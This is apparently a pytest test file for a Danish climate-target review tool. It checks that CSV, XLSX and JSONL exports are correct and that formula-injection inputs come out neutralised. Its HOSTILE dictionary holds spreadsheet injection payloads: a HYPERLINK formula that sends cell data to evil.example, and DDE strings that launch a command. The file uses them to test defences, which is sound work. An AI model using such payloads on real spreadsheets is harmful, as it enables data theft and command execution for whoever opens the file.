"""Exports of reviewed targets: CSV, XLSX and gold JSONL that passes the project's gold checker."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from sqlalchemy import select

from benchmarks.bench_review import seed_synthetic
from db import reviews
from db.export import EXPORT_COLUMNS, export_bytes, parse_statuses
from db.sheets import is_formula_like
from klimamaal.cli import main
from models import Page, Target

ROOT = Path(__file__).resolve().parents[1]


@pytest.fixture
def decided(database_url: str, sessions):  # type: ignore[no-untyped-def]
    """Four targets: one accepted, one edited (value 1.5, quote starting with '='-free text), one rejected, one pending."""
    seed_synthetic(database_url, documents=1, targets_per_document=4, targets_per_page=4)
    with sessions.begin() as session:
        ids = list(session.scalars(select(Target.id).order_by(Target.id)))
        reviews.accept(session, ids[0], "anna", 0)
        reviews.edit(session, ids[1], "anna", 0, {"value": 1.5, "metric": "=SUM(A1)"})
        reviews.reject(session, ids[2], "bent", 0, "statistik")
    return ids


#: Column names by key (the export's columns are Danish).
H = {key: column.header for key, column in EXPORT_COLUMNS}


def _csv_rows(data: bytes, delimiter: str = ",") -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # a BOM: Excel reads the file as UTF-8
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def test_csv_holds_current_values_of_kept_targets_by_default(sessions, decided) -> None:  # type: ignore[no-untyped-def]
    with sessions() as session:
        data = export_bytes(session, "csv")
    rows = _csv_rows(data)
    assert [int(r[H["id"]]) for r in rows] == decided[:2]  # the rejected and the pending one are not there
    by_id = {int(r[H["id"]]): r for r in rows}
    assert by_id[decided[1]][H["value"]] == "1.5" and by_id[decided[1]][H["status"]] == "rettet"
    assert by_id[decided[0]][H["status"]] == "accepteret" and by_id[decided[0]][H["reviewer"]] == "anna"


def test_rejected_targets_are_exported_when_asked_for(sessions, decided) -> None:  # type: ignore[no-untyped-def]
    with sessions() as session:
        rows = _csv_rows(export_bytes(session, "csv", parse_statuses("accepted,edited,rejected")))
    assert [int(r[H["id"]]) for r in rows] == decided[:3]
    rejected = rows[2]
    assert rejected[H["note"]] == "statistik" and rejected[H["status"]] == "afvist"


def test_csv_in_the_danish_excel_dialect(sessions, decided) -> None:  # type: ignore[no-untyped-def]
    with sessions() as session:
        rows = _csv_rows(export_bytes(session, "csv", dialect="excel-da"), delimiter=";")
    by_id = {int(r[H["id"]]): r for r in rows}
    assert by_id[decided[1]][H["value"]] == "1,5"  # decimal comma
    assert set(by_id[decided[0]]) == set(H.values())  # every column split by the semicolon


def test_xlsx_is_a_sheet_an_analyst_opens(sessions, decided) -> None:  # type: ignore[no-untyped-def]
    with sessions() as session:
        data = export_bytes(session, "xlsx")
        target = session.get_one(Target, decided[1])
        document = target.document
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref is not None
    header = [c.value for c in sheet[1]]
    assert header == list(H.values())
    widths = {sheet.column_dimensions[letter].width for letter in ("A", "E", "AC")}
    assert len(widths) > 1  # not all one width
    row = {key: cell for key, cell in zip(H, next(sheet.iter_rows(min_row=3, max_row=3)), strict=True)}
    assert row["id"].value == decided[1] and row["value"].value == 1.5 and row["value"].data_type == "n"
    assert row["status"].value == "rettet" and row["source"].value == document.source
    assert row["municipality_code"].value == document.municipality_code
    assert row["version"].value == 1 and row["dated"].is_date and row["reviewed_at"].is_date
    assert row["direction"].value in (
        None,
        "reducere",
        "øge",
        "nå (andel/niveau)",
        "fastholde",
        "neutral",
        "udfase",
    )


#: Text a spreadsheet would run, each in a field a reviewer or a document can fill.
HOSTILE = {
    "metric": '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "baseline_label": "+cmd|' /C calc'!A0",
    "unit": "\t=1+1",
    "note": "@SUM(1+1)*cmd|' /C calc'!A0",
    "reason": "-2+3",
    "quote": "\r=1+1",
}


@pytest.fixture
def hostile(database_url: str, sessions):  # type: ignore[no-untyped-def]
    """An edited target whose text fields start formulas, one rejected with such a reason, a negative value."""
    seed_synthetic(database_url, documents=1, targets_per_document=2, targets_per_page=2)
    with sessions.begin() as session:
        first, second = session.scalars(select(Target.id).order_by(Target.id))
        fields = {k: HOSTILE[k] for k in ("metric", "baseline_label", "unit")} | {"value": -5.0}
        reviews.edit(session, first, "anna", 0, fields, HOSTILE["note"])
        reviews.reject(session, second, "bent", 0, HOSTILE["reason"])
        page = session.scalars(select(Page)).first()
        assert page is not None
        page.text += HOSTILE["quote"]  # a quote read from a document may start so too
        added = reviews.add_target(
            session,
            document_id=page.document_id,
            page_number=page.number,
            page_start=len(page.text) - len(HOSTILE["quote"]),
            page_end=len(page.text),
            quote=HOSTILE["quote"],
            fields={},
            reviewer="anna",
        )
    return {"edited": first, "rejected": second, "added": added.id}


def test_csv_neutralises_formulas(sessions, hostile) -> None:  # type: ignore[no-untyped-def]
    with sessions() as session:
        data = export_bytes(session, "csv", parse_statuses("accepted,edited,rejected"))
    rows = {int(r[H["id"]]): r for r in _csv_rows(data)}
    edited, rejected, added = rows[hostile["edited"]], rows[hostile["rejected"]], rows[hostile["added"]]
    for field in ("metric", "baseline_label", "unit", "note"):
        assert edited[H[field]] == "'" + HOSTILE[field], field
    assert rejected[H["note"]] == "'" + HOSTILE["reason"] and added[H["quote"]] == "'" + HOSTILE["quote"]
    assert edited[H["value"]] == "-5"  # a number, not text: left alone
    for row in rows.values():
        live = [cell for cell in row.values() if is_formula_like(cell) and not _is_number(cell)]
        assert live == [], row


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _xstring(value: str) -> str:
    """OOXML writes control characters as ``_xHHHH_`` (Excel reads them back; openpyxl leaves them)."""
    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), value)


def test_xlsx_keeps_formula_like_text_as_text(sessions, hostile) -> None:  # type: ignore[no-untyped-def]
    with sessions() as session:
        data = export_bytes(session, "xlsx", parse_statuses("accepted,edited,rejected"))
    sheet = load_workbook(io.BytesIO(data)).active
    cells = {row[0].value: dict(zip(H, row, strict=True)) for row in sheet.iter_rows(min_row=2)}
    edited, rejected = cells[hostile["edited"]], cells[hostile["rejected"]]
    added = cells[hostile["added"]]
    expected = [(edited[f], HOSTILE[f]) for f in ("metric", "baseline_label", "unit", "note")]
    expected += [(rejected["note"], HOSTILE["reason"]), (added["quote"], HOSTILE["quote"])]
    for cell, text in expected:
        assert (_xstring(cell.value), cell.data_type, cell.quotePrefix) == (
            text,
            "s",
            True,
        )  # exact, never run
    assert edited["value"].value == -5.0 and edited["value"].data_type == "n"
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_cli_csv_listings_neutralise_formulas_too(sqlite_url: str, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    from db.engine import session_factory

    seed_synthetic(sqlite_url, documents=1, targets_per_document=1, targets_per_page=1)
    with session_factory(sqlite_url).begin() as session:
        (target,) = session.scalars(select(Target))
        target.metric = HOSTILE["metric"]  # as a rule could read it from a document
    monkeypatch.setenv("KLIMAMAAL_DATABASE_URL", sqlite_url)
    result = CliRunner().invoke(main, ["targets", "--format", "csv"])
    assert result.exit_code == 0, result.output
    (row,) = csv.DictReader(io.StringIO(result.output))
    assert row["metric"] == "'" + HOSTILE["metric"]


def test_jsonl_is_gold_format_and_passes_the_gold_checker(sessions, decided, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    with sessions() as session:
        data = export_bytes(session, "jsonl")
        page_text = session.scalars(select(Page.text)).first()
    lines = [json.loads(line) for line in data.decode().splitlines()]
    kept = [t for line in lines for t in line["targets"]]
    assert {t["value"] for t in kept} == {1.5, next(t["value"] for t in kept if t["value"] != 1.5)}
    assert len(kept) == 2  # the rejected one is not a target
    for line in lines:
        assert line["text"] in page_text
        assert all(t["quote"] in line["text"] for t in line["targets"])
    path = tmp_path / "review.jsonl"
    path.write_bytes(data)
    checked = subprocess.run(
        [sys.executable, str(ROOT / "tests" / "gold" / "check_gold.py"), str(path)],
        capture_output=True,
        text=True,
    )
    assert checked.returncode == 0, checked.stdout + checked.stderr


def test_a_passage_of_only_rejected_targets_is_a_negative(database_url: str, sessions) -> None:  # type: ignore[no-untyped-def]
    seed_synthetic(database_url, documents=1, targets_per_document=1, targets_per_page=1)
    with sessions.begin() as session:
        (target_id,) = session.scalars(select(Target.id))
        reviews.reject(session, target_id, "anna", 0, "ikke et mål")
    with sessions() as session:
        (line,) = [json.loads(x) for x in export_bytes(session, "jsonl").decode().splitlines()]
    assert line["targets"] == [] and "rejected" in line["note"]


def test_unknown_statuses_are_refused() -> None:
    with pytest.raises(ValueError):
        parse_statuses("accepted,maybe")


def test_cli_export_writes_each_format(sqlite_url: str, monkeypatch, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    from db.engine import session_factory

    seed_synthetic(sqlite_url, documents=1, targets_per_document=2, targets_per_page=2)
    sessions = session_factory(sqlite_url)
    with sessions.begin() as session:
        (first, _) = session.scalars(select(Target.id).order_by(Target.id))
        reviews.accept(session, first, "anna", 0)
    monkeypatch.setenv("KLIMAMAAL_DATABASE_URL", sqlite_url)
    runner = CliRunner()
    for fmt in ("csv", "xlsx", "jsonl"):
        out = tmp_path / f"out.{fmt}"
        result = runner.invoke(main, ["export", "--format", fmt, "--status", "accepted", "-o", str(out)])
        assert result.exit_code == 0, result.output
        assert out.stat().st_size > 0
    assert len((tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()) == 1
    bad = runner.invoke(
        main, ["export", "--format", "csv", "--status", "nope", "-o", str(tmp_path / "x.csv")]
    )
    assert bad.exit_code != 0
